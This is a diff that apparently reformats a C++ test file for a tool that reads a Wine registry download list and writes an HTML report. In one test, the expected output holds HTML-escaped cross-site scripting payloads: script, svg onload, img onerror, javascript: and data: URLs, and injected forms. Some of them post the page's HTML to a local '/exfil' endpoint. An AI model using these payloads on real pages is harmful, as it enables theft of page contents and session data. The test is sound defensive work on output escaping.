@@ -38,9 +38,8 @@ const char* ProgramName(Build build) {
   std::size_t at = 0;
   while (at < want.size() && at < got.size() && want[at] == got[at]) ++at;
   return ::testing::AssertionFailure()
-         << "want " << want.size() << " bytes, got " << got.size() << "; first difference at "
-         << at << ": want \"" << want.substr(at, 40) << "\", got \"" << got.substr(at, 40)
-         << "\"";
+         << "want " << want.size() << " bytes, got " << got.size() << "; first difference at " << at
+         << ": want \"" << want.substr(at, 40) << "\", got \"" << got.substr(at, 40) << "\"";
 }
 
 // The native build tells a failure on standard error, the box's title and
@@ -209,9 +208,12 @@ BigCase MegabyteUrl() {
 // Numbered names of `length` characters, so that Wine's sorted enumeration
 // gives them in the order they were made.
 BigCase ManyLongKeyNames(int count, int length) {
-  BigCase c{std::to_string(count) + " downloads with " + std::to_string(length) +
-                "-character key names",
-            {}, "{\r\n&Name &Size\r\n}\r\n", "", ""};
+  BigCase c{
+      std::to_string(count) + " downloads with " + std::to_string(length) + "-character key names",
+      {},
+      "{\r\n&Name &Size\r\n}\r\n",
+      "",
+      ""};
   for (int i = 0; i < count; ++i) {
     char number[16];
     std::snprintf(number, sizeof number, "%05d", i);
@@ -224,10 +226,10 @@ BigCase ManyLongKeyNames(int count, int length) {
 
 // The test prefix's ANSI code page is 1252: the bytes 0x80-0x9F are these
 // characters (five of them unassigned, which Wine keeps as the C1 controls).
-const char16_t kCp1252High[32] = {
-    0x20AC, 0x0081, 0x201A, 0x0192, 0x201E, 0x2026, 0x2020, 0x2021, 0x02C6, 0x2030, 0x0160,
-    0x2039, 0x0152, 0x008D, 0x017D, 0x008F, 0x0090, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022,
-    0x2013, 0x2014, 0x02DC, 0x2122, 0x0161, 0x203A, 0x0153, 0x009D, 0x017E, 0x0178};
+const char16_t kCp1252High[32] = {0x20AC, 0x0081, 0x201A, 0x0192, 0x201E, 0x2026, 0x2020, 0x2021,
+                                  0x02C6, 0x2030, 0x0160, 0x2039, 0x0152, 0x008D, 0x017D, 0x008F,
+                                  0x0090, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022, 0x2013, 0x2014,
+                                  0x02DC, 0x2122, 0x0161, 0x203A, 0x0153, 0x009D, 0x017E, 0x0178};
 
 std::string Cp1252ToUtf8(const std::string& bytes) {
   std::string out;
@@ -251,15 +253,15 @@ BigCase HighBytesAndNuls() {
   std::string high;
   for (int b = 0x80; b <= 0xFF; ++b) high += static_cast<char>(b);
   // Strings end at their first NUL, whatever follows it.
-  return {"bytes 0x80-0xFF and NUL in values",
-          {{"X",
-            {Hex("Item_MainURL", 1, high + std::string("\0after\0", 7)),
-             Hex("Item_Description", 2, std::string("d\x01\x7f\0x\0", 6)),
-             Hex("Item_OutputFilename", 1, std::string("\0C:\\hidden\\", 11)),
-             Dword("Item_Size", 3)}}},
-          "{\r\n[&URL][&Discr][&Out][&DOut]\r\n}\r\n",
-          "[" + high + "][d\x01\x7f][][file://]\r\n",
-          "[" + Cp1252ToUtf8(high) + "][d\x01\x7f][][file://]\r\n"};
+  return {
+      "bytes 0x80-0xFF and NUL in values",
+      {{"X",
+        {Hex("Item_MainURL", 1, high + std::string("\0after\0", 7)),
+         Hex("Item_Description", 2, std::string("d\x01\x7f\0x\0", 6)),
+         Hex("Item_OutputFilename", 1, std::string("\0C:\\hidden\\", 11)), Dword("Item_Size", 3)}}},
+      "{\r\n[&URL][&Discr][&Out][&DOut]\r\n}\r\n",
+      "[" + high + "][d\x01\x7f][][file://]\r\n",
+      "[" + Cp1252ToUtf8(high) + "][d\x01\x7f][][file://]\r\n"};
 }
 
 void ExpectWholeRun(const BigCase& c, Build build) {
@@ -272,8 +274,8 @@ void ExpectWholeRun(const BigCase& c, Build build) {
   EXPECT_EQ(0, run.exit_code) << run.stderr_text.substr(0, 2000);
   EXPECT_FALSE(run.timed_out);
   EXPECT_TRUE(run.boxes.empty());
-  const std::string& want =
-      build == Build::kNative && !c.want_native.empty() ? c.want_native : c.want;
+  const std::string& want = build == Build::kNative && !c.want_native.empty() ? c.want_native
+                                                                              : c.want;
   EXPECT_TRUE(SameBytes(want, run.report));
   EXPECT_TRUE(run.shell.asked);
 }
@@ -313,16 +315,17 @@ std::vector<DownloadKey> ReadDownloadList(const std::string& reg_path) {
 TEST(Hostile, ValuesAimedAtThePageComeOutAsText) {
   SetHtmHandler(true);
   const BigCase c = {
-      "hostile list",
-      ReadDownloadList(TALLYWEB_HOSTILE_LIST),
+      "hostile list", ReadDownloadList(TALLYWEB_HOSTILE_LIST),
       "{\r\n&Name|&URL|&Out|&DOut|&Size|&Discr\r\n}\r\n",
       R"(01 script|https://example.org/a.zip|C:\Downloads\a.zip|file://C:\Downloads\|1024|)"
       R"(&lt;script&gt;addEventListener(&#39;load&#39;,function(){fetch(&#39;http://127.0.0.1:8765/)"
       R"(exfil&#39;,{method:&#39;POST&#39;,mode:&#39;no-cors&#39;,body:document.documentElement.)"
-      R"(outerHTML})})&lt;/script&gt;)" "\r\n"
+      R"(outerHTML})})&lt;/script&gt;)"
+      "\r\n"
       R"(02 &lt;svg onload=fetch(&#39;http://127.0.0.1:8765/svg&#39;)&gt;|https://example.org/b.zip|)"
       R"(C:\Downloads\b.zip|file://C:\Downloads\|1|&lt;img src=http://127.0.0.1:8765/img )"
-      R"(onerror=fetch(&#39;http://127.0.0.1:8765/onerror&#39;)&gt;)" "\r\n"
+      R"(onerror=fetch(&#39;http://127.0.0.1:8765/onerror&#39;)&gt;)"
+      "\r\n"
       R"(03 quotes|https://example.org/&quot; autofocus onfocus=&quot;fetch(&#39;)"
       R"(http://127.0.0.1:8765/focus&#39;)|)"
       R"(C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\&quot;&gt;)"
@@ -331,21 +334,26 @@ TEST(Hostile, ValuesAimedAtThePageComeOutAsText) {
       R"(file://C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\)"
       R"(&quot;&gt;&lt;script src=http://127.0.0.1:|-1|)"
       R"(&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=http://127.0.0.1:8765/)"
-      R"(refresh&quot;&gt;)" "\r\n"
+      R"(refresh&quot;&gt;)"
+      "\r\n"
       R"(04 comment|https://example.org/?a=1&amp;b=2&amp;lt;&amp;#39;|C:\Downloads\notes.txt|)"
-      R"(file://C:\Downloads\|2|Release notes &lt;!--)" "\r\n"
+      R"(file://C:\Downloads\|2|Release notes &lt;!--)"
+      "\r\n"
       R"(05 javascript|javascript:fetch(&#39;http://127.0.0.1:8765/javascript&#39;)|)"
       R"(C:\Music\Mix #3\track.mp3|file://C:\Music\Mix %233\|3|)"
       R"(&lt;base href=&quot;http://127.0.0.1:8765/&quot;&gt;&lt;link rel=stylesheet )"
       R"(href=&quot;http://127.0.0.1:8765/css&quot;&gt;&lt;style&gt;@import )"
-      R"(&#39;http://127.0.0.1:8765/import&#39;;&lt;/style&gt;)" "\r\n"
+      R"(&#39;http://127.0.0.1:8765/import&#39;;&lt;/style&gt;)"
+      "\r\n"
       R"(06 data|data:text/html,&lt;script&gt;fetch(&#39;http://127.0.0.1:8765/data&#39;))"
       R"(&lt;/script&gt;|D:\Backup\100%\it&#39;s &amp; more.zip|file://D:\Backup\100%25\|4|)"
       R"(&lt;/td&gt;&lt;/tr&gt;&lt;/tbody&gt;&lt;/table&gt;&lt;form )"
       R"(action=http://127.0.0.1:8765/form&gt;&lt;button autofocus&gt;Send&lt;/button&gt;)"
-      R"(&lt;/form&gt;)" "\r\n"
+      R"(&lt;/form&gt;)"
+      "\r\n"
       R"(07 spaced scheme| JavaScript:fetch(&#39;http://127.0.0.1:8765/spaced&#39;)|)"
-      R"(E:\%23\x.bin|file://E:\%2523\|5|last row)" "\r\n",
+      R"(E:\%23\x.bin|file://E:\%2523\|5|last row)"
+      "\r\n",
       ""};
   ASSERT_EQ(7u, c.list.size());
   PlantDownloadList(c.list);
@@ -451,7 +459,8 @@ NativeRun RunNativeOn(const ProgramFolder& folder, const std::string& prefix,
     waitpid(child, &status, 0);
   }
   // Never open a FIFO left there: reading it would wait for a writer.
-  if (fs::is_regular_file(folder.path() + "/Tallyweb.htm")) run.report = folder.ReadFile("Tallyweb.htm");
+  if (fs::is_regular_file(folder.path() + "/Tallyweb.htm"))
+    run.report = folder.ReadFile("Tallyweb.htm");
   run.out = ReadWhole(out_path);
   return run;
 }
@@ -481,7 +490,8 @@ TEST(Hostile, DamagedHiveReadsAsNoListNatively) {
     bool fifo_instead = false;
     std::string want = kNotFound;
   } cases[] = {
-      {"cut in the list's key line", hive.substr(0, hive.find("Orvalink\\\\FileList\\\\X]") + 20), false},
+      {"cut in the list's key line", hive.substr(0, hive.find("Orvalink\\\\FileList\\\\X]") + 20),
+       false},
       {"NUL inside", hive.substr(0, 200) + std::string(1, '\0') + hive.substr(200), false, false,
        "X\r\n"},
       {"binary", binary, false},
@@ -581,7 +591,8 @@ TEST(Hostile, NativeProgramBehavesAsALinuxProgram) {
     folder.WriteFile("prefix/system.reg",
                      "WINE REGISTRY Version 2\n\n#arch=win64\n\n"
                      "[Software\\\\Wow6432Node\\\\Tesmora\\\\Orvalink\\\\FileList\\\\d1] 1\n" +
-                         size + "\"Item_OutputFilename\"=\"C:\\\\users\\\\me\\\\my files\\\\a.zip\"\n");
+                         size +
+                         "\"Item_OutputFilename\"=\"C:\\\\users\\\\me\\\\my files\\\\a.zip\"\n");
     if (c.fifo != nullptr) {
       const std::string fifo = folder.path() + "/" + c.fifo;
       fs::remove(fifo);
@@ -605,7 +616,8 @@ TEST(Hostile, NativeProgramBehavesAsALinuxProgram) {
     EXPECT_EQ(std::string::npos, run.report.find("Application Error")) << run.report;
     if (std::string(c.report) == "file:///") {
       const std::string drive = fs::canonical(prefix + "/drive_c").string();
-      EXPECT_NE(std::string::npos, run.report.find("href=\"file://" + drive + "/Users/Me/My%20Files/\""))
+      EXPECT_NE(std::string::npos,
+                run.report.find("href=\"file://" + drive + "/Users/Me/My%20Files/\""))
           << run.report;
     }
   }
